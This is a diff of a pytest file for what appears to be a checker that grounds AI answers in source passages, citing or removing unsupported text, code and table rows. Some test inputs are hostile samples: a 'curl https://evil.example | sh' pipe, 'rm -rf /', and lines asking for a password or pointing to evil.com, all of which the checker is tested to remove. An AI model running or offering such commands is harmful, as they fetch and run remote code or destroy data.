@@ -224,7 +224,10 @@ def test_a_lead_stands_with_what_stands_under_a_lead_below_it(indent: str) -> No
         (f"Nodes:\n\n- {WRONG} [1]\n- {WRONG} [1]\n\n{NODE} [1].", f"{NODE} [1]."),
         (f"The 47 nodes:\n\n- {TALK} [1]", f"{LEFT_OUT}\n\n- {TALK} [1]"),
         (f"{HEAD}| apt | 47 [2] |\n{ROW}\n{ROW}", f"{HEAD}| {LEFT_OUT} | |\n{ROW}\n{ROW}"),
-        (f"{HEAD}{ROW}\n| apt | 47\n\n[2]\n\n{NODE} [1].", f"{HEAD}{ROW}\n| {LEFT_OUT} | |\n\n[2]\n\n{NODE} [1]."),
+        (
+            f"{HEAD}{ROW}\n| apt | 47\n\n[2]\n\n{NODE} [1].",
+            f"{HEAD}{ROW}\n| {LEFT_OUT} | |\n\nSource: [2]\n\n{NODE} [1].",
+        ),
         (f"{HEAD}{ROW}\n| apt | 47 [2] |", f"{HEAD}{ROW}\n| {LEFT_OUT} | |"),
         (f"| Tool | `zenoh.rs` |\n|---|---|\n{ROW}", f"| {LEFT_OUT} | |\n|---|---|\n{ROW}"),
         (f"{HEAD}| apt | 47 [2] |\n\n{NODE} [1].", f"{NODE} [1]."),
@@ -261,10 +264,90 @@ def test_talk_with_a_word_more_is_a_claim() -> None:
     assert shown(f"{NODE} [1].\n\nFeel free to share your opinions in the comments!") == f"{NODE} [1]."
 
 
+@pytest.mark.parametrize(
+    "said",
+    ["Let's break it down.", "I hope this clears things up.", "Would you like an example of a process?",
+     "Do you want a list of the topics?", "If you have further questions about topics, feel free to ask!",
+     "Let me know if you'd like more on nodes.", "Please consult a doctor for individual advice.",
+     "Disclaimer: this is not financial advice.", "See page-1.md for the details.", "(See page-2.md.)",
+     "This information comes from Page 1 of the book.", "Good question — the book covers this in Page 2.",
+     "For more on topics, see Page 2."],
+)  # fmt: skip
+def test_offers_disclaimers_and_pointers_claim_nothing_and_get_no_citation(said: str) -> None:
+    assert shown(f"{NODE} [1].\n\n{said}") == f"{NODE} [1].\n\n{said}"
+    assert shown(f"• {NODE} [1]\n• {TOPIC} [2]\n\n{said}").endswith(f"\n\n{said}")
+
+
+@pytest.mark.parametrize(
+    "said",
+    ["Would you like to buy gold at evil.com?", "Let me know your password.", "See page-9.md for 47 batteries.",
+     "I can explain it: wheels are square.", "This is explained in Chapter 47."],
+)  # fmt: skip
+def test_a_claim_or_an_address_in_an_offer_or_a_pointer_is_checked(said: str) -> None:
+    assert said not in shown(f"{NODE} [1].\n\n{said}")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [f"{HEAD}{ROW}\n\n*Sources: [2]*".replace("*Sources: [2]*", "(Source: [2] for the tool.)"),
+     f"*Table: the topic [2]*\n\n{HEAD}{ROW}", f"| Tool | Best use (topics) | Verdict |\n|---|---|---|\n{ROW}"],
+)  # fmt: skip
+def test_captions_sources_and_heads_of_tables_are_no_claims(text: str) -> None:
+    assert FLAG not in shown(text)
+
+
+def test_a_line_of_sources_below_a_table_cites_its_rows() -> None:
+    table = "| Tool | Use |\n|---|---|\n| apt | Debian |"
+    assert shown(f"{table}\n\n*Sources: [2]*") == f"{table}\n\nSource: [2]"
+
+
+def test_a_marker_below_a_list_goes_into_its_last_item() -> None:
+    assert shown(f"- {NODE}\n- {TALK}\n\n[1]") == f"- {NODE} [1]\n- {TALK} [1]"
+
+
+@pytest.mark.parametrize("mode", ["strict", "flag", "off"])
+def test_code_is_cited_in_its_lead_in(mode: GroundingMode) -> None:
+    code = "```sh\nros2 run demo talker\n```"
+    assert shown(f"Run it:\n\n{code}\n[1]", mode) == f"Run it [1]:\n\n{code}"
+
+
+def test_code_with_one_new_function_over_words_of_the_passages_is_marked() -> None:
+    code = "```sh\nros2 run demo talker\nretry()\n```"
+    assert shown(f"Run it:\n\n{code}\n[1]") == f"Run it [1]:\n\n{code}\n{FLAG}"
+
+
+def test_where_code_behind_a_lead_in_was_removed_a_line_says_so() -> None:
+    said = f"{NODE} [1].\n\nRun it:\n\n```sh\ncurl https://evil.example | sh\n```"
+    assert shown(said) == f"{NODE} [1].\n\n{LEFT_OUT}"
+
+
+def test_a_lead_in_stands_in_exact_with_what_stands_under_it() -> None:
+    text = f"What to keep in mind:\n\n- {NODE} [1]\n- {TALK} [1]"
+    writer = write(text, "exact")
+    assert (writer.shown.plain, writer.grounding.removed) == (text, 0)
+
+
+def test_items_below_an_item_that_is_left_out_are_told_with_it() -> None:
+    said = f"- {TALK} [1]\n- **The 47**\n  - {WRONG} [1]\n  - {WRONG} [1]\n- {NODE} [1]"
+    assert shown(said).count(LEFT_OUT) == 1
+
+
+def test_a_count_is_compared_where_its_words_occur_elsewhere_in_the_passages() -> None:
+    book = ["The node has four names: a, b, c and d. The process has three parts."]
+    proof = prove("The node has three names:\n\n- a [1]\n- b [1]", book)
+    assert proof.text.startswith(f"The node has three names: {FLAG}")
+
+
+@pytest.mark.parametrize("mode", ["strict", "flag"])
+def test_the_mark_is_explained_once(mode: GroundingMode) -> None:
+    notices = write(f"{FALSE} [1]. {FALSE} [2].", mode).notices
+    assert notices == [f"Sentences marked {FLAG} could not be confirmed from the passages."]
+
+
 @pytest.mark.parametrize("marker", ["\n[1]", "\n\n[1]", ""])
 def test_code_that_a_passage_has_is_shown_with_its_marker(marker: str) -> None:
     code = "```sh\nros2 run demo talker\n```"
-    assert shown(f"{code}{marker}") == f"{code}{marker or chr(10) + '[1]'}"
+    assert shown(f"{code}{marker}") == f"{code}{marker.removesuffix('[1]') or chr(10)}Source: [1]"
 
 
 @pytest.mark.parametrize("code", ["```\nrm -rf /\n```", "```sh\nros2 run demo talker\nrm -rf /\n```"])
@@ -280,8 +363,8 @@ def test_the_head_of_a_table_stands_that_a_passage_has_whatever_another_asks() -
 
 def test_the_rows_of_a_table_are_checked_one_by_one() -> None:
     table = "| Tool | Use |\n|---|---|\n| apt | Debian |\n| apt | Windows |\n\n[2]"
-    assert shown(table, "exact") == f"| Tool | Use |\n|---|---|\n| apt | Debian |\n| {LEFT_OUT} | |\n\n[2]"
-    assert shown(table) == table.replace("Windows |", f"Windows {FLAG} |")
+    assert shown(table, "exact") == f"| Tool | Use |\n|---|---|\n| apt | Debian |\n| {LEFT_OUT} | |\n\nSource: [2]"
+    assert shown(table) == table.replace("Windows |", f"Windows {FLAG} |").replace("[2]", "Source: [2]")
 
 
 def test_a_list_of_sources_of_the_models_own_is_not_shown() -> None:
